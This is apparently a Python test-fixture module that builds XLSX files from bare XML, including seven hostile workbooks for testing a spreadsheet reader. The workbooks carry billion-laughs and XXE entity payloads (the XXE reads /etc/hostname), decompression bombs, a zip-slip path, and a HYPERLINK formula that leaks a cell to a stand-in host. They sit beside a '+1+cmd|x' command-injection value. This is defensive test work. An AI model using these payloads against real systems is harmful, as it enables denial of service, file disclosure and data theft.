"""Workbooks as a test needs them: XLSX from bare XML, so that a test can write what no office program writes."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterable, Iterator, Mapping
from itertools import chain, repeat

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
STYLES = f"""<styleSheet xmlns="{MAIN}"><numFmts count="2"><numFmt numFmtId="164" formatCode="000000"/>
<numFmt numFmtId="165" formatCode="yyyy&quot;年&quot;m&quot;月&quot;d&quot;日&quot;;@"/></numFmts>
<cellXfs count="6"><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="164"/><xf numFmtId="165"/><xf numFmtId="49"/>
<xf numFmtId="31"/></cellXfs></styleSheet>"""
DATE, ZEROS, CHINESE_DATE, TEXT, BUILT_IN_CHINESE_DATE = 1, 2, 3, 4, 5


def inline(place: str, text: str) -> str:
    """A cell that carries its own text."""
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def row(number: int, *cells: str, **attributes: str) -> str:
    """A row of ready cells."""
    told = "".join(f' {name}="{value}"' for name, value in attributes.items())
    return f'<row r="{number}"{told}>{"".join(cells)}</row>'


def sheet(rows: Iterable[str], after: str = "", before: str = "") -> str:
    """A sheet around its rows."""
    return f'<worksheet xmlns="{MAIN}">{before}<sheetData>{"".join(rows)}</sheetData>{after}</worksheet>'


def parts(sheets: Mapping[str, str], strings: Iterable[str] = (), is_1904: bool = False) -> dict[str, str]:
    """Every part of an XLSX; a name with a colon says the sheet's state: hidden:Lists."""
    listed, related, typed = "", "", ""
    for n, name in enumerate(sheets, 1):
        state, _, plain = name.rpartition(":")
        listed += f'<sheet name="{plain}" sheetId="{n}" r:id="rId{n}" state="{state or "visible"}"/>'
        related += f'<Relationship Id="rId{n}" Type="{OFFICE}/worksheet" Target="worksheets/sheet{n}.xml"/>'
        typed += f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="{SPREADSHEET}.worksheet+xml"/>'
    related += f'<Relationship Id="s" Type="{OFFICE}/styles" Target="styles.xml"/>'
    related += f'<Relationship Id="t" Type="{OFFICE}/sharedStrings" Target="/xl/sharedStrings.xml"/>'
    return {
        "[Content_Types].xml": f"""<Types xmlns="{PACKAGE}/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Override PartName="/xl/workbook.xml" ContentType="{SPREADSHEET}.sheet.main+xml"/>{typed}</Types>""",
        "_rels/.rels": f"""<Relationships xmlns="{PACKAGE}/relationships">
<Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>""",
        "xl/workbook.xml": f"""<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><workbookPr date1904="{int(is_1904)}"/>
<sheets>{listed}</sheets></workbook>""",
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{related}</Relationships>',
        "xl/styles.xml": STYLES,
        "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">{"".join(f"<si>{text}</si>" for text in strings)}</sst>',
        **{f"xl/worksheets/sheet{n}.xml": xml for n, xml in enumerate(sheets.values(), 1)},
    }


def packed(members: Mapping[str, str | bytes | Iterable[str]]) -> bytes:
    """A ZIP of these members; one that is too large for a string comes in pieces."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            entry = zipfile.ZipInfo(name)
            entry.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(entry, "w") as member:
                for piece in (content,) if isinstance(content, str | bytes) else content:
                    member.write(piece if isinstance(piece, bytes) else piece.encode())
    return buffer.getvalue()


def xlsx(rows: Iterable[str], after: str = "", before: str = "") -> bytes:
    """An XLSX of one sheet."""
    return packed(parts({"Sheet1": sheet(rows, after, before)}))


def attacks() -> dict[str, bytes]:
    """The seven hostile workbooks that killed or fooled readers, made anew."""
    head = row(1, inline("A1", "id_no"), inline("B1", "name"))
    plain = parts({"Sheet1": sheet([head, row(2, inline("A2", "110101201503071234"), inline("B2", "x"))])})
    place = "xl/worksheets/sheet1.xml"
    far = sheet([head, row(1_048_576, inline("XFD1048576", "x"))], before='<dimension ref="A1:XFD1048576"/>')
    long_row = f'<row><c t="inlineStr"><is><t>{"A" * 1000}</t></is></c></row>'
    cell = sheet([head, row(2, inline("A2", "…"))])
    few = sheet([head, "…"], before='<dimension ref="A1:B2"/>')
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    entity = sheet([head, row(2, inline("A2", "&a9;"))])
    number = '<c r="A3"><v>1.101012015030712e+17</v></c>'
    formula = '<c r="A2"><f>HYPERLINK("http://x/?"&amp;A3,"c")</f><v/></c>'
    return {
        "billion_laughs": packed(plain | {place: f'<!DOCTYPE z [<!ENTITY a0 "AAAAAAAAAA">{laughs}]>{entity}'}),
        "xxe": packed(plain | {place: f'<!DOCTYPE z [<!ENTITY a9 SYSTEM "file:///etc/hostname">]>{entity}'}),
        "bomb_onecell": packed(plain | {place: _within(cell, "A" * 1_000_000, 400)}),
        "bomb_rows": packed(plain | {place: _within(few, long_row * 1_000, 300)}),
        "sparse": packed(plain | {place: far}),
        "zip_slip": packed(plain | {"../../../../tmp/evil.txt": "x"}),
        "formula_and_float_id": packed(
            plain | {place: sheet([head, row(2, formula, inline("B2", "+1+cmd|x")), row(3, number)])}
        ),
    }


def _within(text: str, piece: str, times: int) -> Iterator[str]:
    """A text with many pieces in place of its …"""
    before, _, after = text.partition("…")
    return chain([before], repeat(piece, times), [after])
